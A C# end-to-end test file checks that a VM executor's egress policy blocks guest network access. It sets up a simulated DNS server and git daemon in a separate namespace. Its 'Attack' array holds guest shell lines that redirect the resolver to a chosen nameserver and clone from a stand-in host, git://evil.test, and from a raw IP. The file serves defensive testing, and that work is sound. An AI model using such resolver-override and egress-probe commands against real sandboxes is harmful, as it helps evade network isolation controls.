using System.Diagnostics;
using System.Text.Json;
using FluentAssertions;
using VmExecutor.EndToEnd.Tests.Attacks;
using VmExecutor.EndToEnd.Tests.Benches;
using VmExecutor.EndToEnd.Tests.Images;
using VmExecutor.EndToEnd.Tests.Instruments;
using VmExecutor.RunnerSimulator;
using VmExecutor.RunnerSimulator.Jobs;
using VmExecutor.RunnerSimulator.Stages;
using Xunit;

namespace VmExecutor.EndToEnd.Tests.Cases;

/// <summary>
/// Real guests under an egress policy, in a network namespace of their own. Another namespace is the rest of the world: a name server and git's daemon at two addresses, one
/// with an allowed name and one with another.
/// </summary>
[AlwaysCold("its libvirt is its own")]
public sealed class EgressTests(TestMachine machine) : IsolatedTest(machine, "nft", "dnsmasq", "git", "prlimit")
{
    private const string Policy = "egress: {allow: .example.test}";

    /// <summary>The guest asks a server of its own choice.</summary>
    private static readonly string[] Attack =
    [
        "echo nameserver 192.0.2.3 | sudo tee /run/resolv.conf",
        "! git clone -q git://git.example.test/project /tmp/allowed || echo cloned-allowed-$((1+1))",
        "! git clone -q git://evil.test/project /tmp/evil || echo cloned-evil-$((1+1))",
        "! timeout 60 git clone -q git://192.0.2.3/project /tmp/number || echo cloned-by-number-$((1+1))",

        // A connection that is not refused is tried for two minutes.
        "timeout 60 git ls-remote -q git://192.0.2.3/project > /dev/null || [ $? != 124 ] && echo answered-$((1+1))",
    ];

    private static readonly string[] Others = ["cloned-evil-2", "cloned-by-number-2"];

    [Fact(Timeout = HangLimit)]
    public async Task A_job_is_refused_what_its_policy_does_not_allow_is_told_so_and_can_only_narrow_it()
    {
        await using var world = await World.StartAsync(Libvirt, Bench.MakeDirectory("world"));
        Bench.With();
        Bench.CloseHost();
        var free = await Bench.RunJobAsync(new SimulatedJob { Id = 1702, Image = "small", Script = Attack });
        Bench.With(new ImageYaml { Further = [Policy] });

        var result = await Bench.RunJobAsync(new SimulatedJob { Id = 1701, Image = "small", Script = Attack, AfterScript = ["git ls-remote git://evil.test/project || true"] });
        var left = await Libvirt.OutputAsync("nft", "list", "tables");
        var (exit, listed, error) = await Bench.CommandAsync("egress", "--image", "small", "--json");
        var more = await Bench.RunJobAsync(new SimulatedJob { Id = 1703, Image = "small", Variables = [new("VM_EGRESS", "git.example.test evil.test")] });

        var scorecard = new Scorecard();
        scorecard.Note("egress-by-guest", held: !Others.Any(result.TraceText.Contains), control: Others.All(free.TraceText.Contains), $"{result}\n{free}");
        scorecard.Note("egress-widened", held: more.State == JobState.Failed, control: Others.All(free.TraceText.Contains), $"{more}\n{free}");
        scorecard.ShouldBeGreen();
        free.TraceText.Should().Contain("cloned-allowed-2");
        more.FailureReason.Should().Be(FailureReason.ScriptFailure, "it is not tried again");
        more.TraceText.Should().Contain("ERROR VMX1803").And.Contain("asks by VM_EGRESS for evil.test");
        result.State.Should().Be(JobState.Success, result.ToString());
        result.TraceText.Should().Contain("cloned-allowed-2").And.Contain("answered-2", "it is refused at once");
        result.Last(Stage.Run, SubStages.BuildScript).ErrorText.Should().Contain("WARNING: egress policy 'small' refused evil.test\n").And.Contain("WARNING: egress policy 'small' refused 192.0.2.3:9418\n");
        result.Last(Stage.Run, SubStages.AfterScript).ErrorText.Should().NotContain("refused evil.test", "it was told");
        left.Should().NotContain("egress");
        Directory.GetFiles("/run/vm-executor/egress", "*.conf").Should().NotContain(file => File.ReadAllText(file).Contains("example.test", StringComparison.Ordinal));
        exit.Should().Be(0, error);
        var policy = JsonDocument.Parse(listed).RootElement.GetProperty("policies").EnumerateArray().Should().ContainSingle().Subject;
        policy.GetProperty("allowed").EnumerateObject().Select(name => name.Name).Should().Equal("git.example.test");
        policy.GetProperty("refused").EnumerateObject().Select(name => name.Name).Should().Contain(["evil.test", "192.0.2.3:9418"]);
        (await Bench.Leftovers.FindAsync()).Should().BeEmpty();
    }

    /// <summary>The rest of the world.</summary>
    private sealed class World : IAsyncDisposable
    {
        private const string Names = """
            no-resolv
            no-hosts
            bind-interfaces
            address=/git.example.test/192.0.2.2
            address=/evil.test/192.0.2.3
            pid-file=

            """;

        private readonly List<Process> _processes = [];

        public static async Task<World> StartAsync(IsolatedLibvirt libvirt, string directory)
        {
            var world = new World();
            var place = Process.Start(new ProcessStartInfo("unshare", ["--net", "sh", "-c", "echo up; exec cat"]) { RedirectStandardInput = true, RedirectStandardOutput = true })!;
            world._processes.Add(place);
            (await place.StandardOutput.ReadLineAsync()).Should().Be("up");
            string[] inside = ["nsenter", "--target", place.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), "--net"];
            var resolv = Path.Combine(directory, "resolv.conf");
            await File.WriteAllTextAsync(resolv, "nameserver 192.0.2.2\n");
            await libvirt.OutputAsync("sh", "-ec", $"""
                ip link add inside type veth peer name outside netns {place.Id}
                ip addr add 192.0.2.1/24 dev inside; ip link set inside up
                mount --bind {resolv} "$(readlink -f /etc/resolv.conf)"
                {string.Join(' ', inside)} sh -ec 'ip link set lo up; ip addr add 192.0.2.2/24 dev outside; ip addr add 192.0.2.3/24 dev outside; ip link set outside up'
                """);
            await File.WriteAllTextAsync(Path.Combine(directory, "names"), Names);
            await GitServer.MakeRepositoryAsync(directory, new Dictionary<string, string> { ["README"] = "the world\n" });
            world.Start(inside, "dnsmasq", "--keep-in-foreground", $"--conf-file={directory}/names");
            world.Start(inside, "git", "-c", "safe.directory=*", "daemon", "--export-all", "--reuseaddr", $"--base-path={directory}", directory);
            (await Eventually.AskAsync(
                () => HostCommand.TryAsync(inside[0], [.. inside.Skip(1), "git", "ls-remote", "git://192.0.2.3/project"]), answer => answer.ExitCode == 0, TimeSpan.FromSeconds(20)))
                .ExitCode.Should().Be(0, "git's daemon is there");
            return world;
        }

        public async ValueTask DisposeAsync()
        {
            foreach (var process in _processes)
            {
                process.Kill(entireProcessTree: true);
                await process.WaitForExitAsync();
                process.Dispose();
            }
        }

        private void Start(string[] inside, params string[] command)
        {
            var start = new ProcessStartInfo(inside[0], [.. inside.Skip(1), .. command]);

            // git refuses repositories of another owner.
            start.Environment["GIT_CONFIG_COUNT"] = "1";
            start.Environment["GIT_CONFIG_KEY_0"] = "safe.directory";
            start.Environment["GIT_CONFIG_VALUE_0"] = "*";
            _processes.Add(Process.Start(start)!);
        }
    }
}
